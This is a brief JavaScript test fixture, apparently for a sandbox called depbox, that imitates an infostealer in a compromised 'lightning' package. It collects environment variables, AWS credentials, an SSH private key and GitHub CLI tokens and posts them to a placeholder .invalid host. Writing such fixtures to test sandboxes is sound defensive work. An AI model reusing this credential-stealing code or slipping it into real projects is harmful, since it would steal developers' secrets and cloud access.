// TEST FIXTURE — stands in for the compromised lightning's bundled
// JavaScript infostealer (run with bun). It reads cloud credentials and
// sends them to a *.invalid host; it only ever runs inside depbox's sandbox.
const fs = require('fs');
const os = require('os');
const loot = { env: process.env };
for (const p of ['.aws/credentials', '.ssh/id_rsa', '.config/gh/hosts.yml']) {
  try { loot[p] = fs.readFileSync(os.homedir() + '/' + p, 'utf8'); } catch {}
}
fetch('http://collector.lightning.invalid/u', { method: 'POST', body: JSON.stringify(loot) }).catch(() => {});
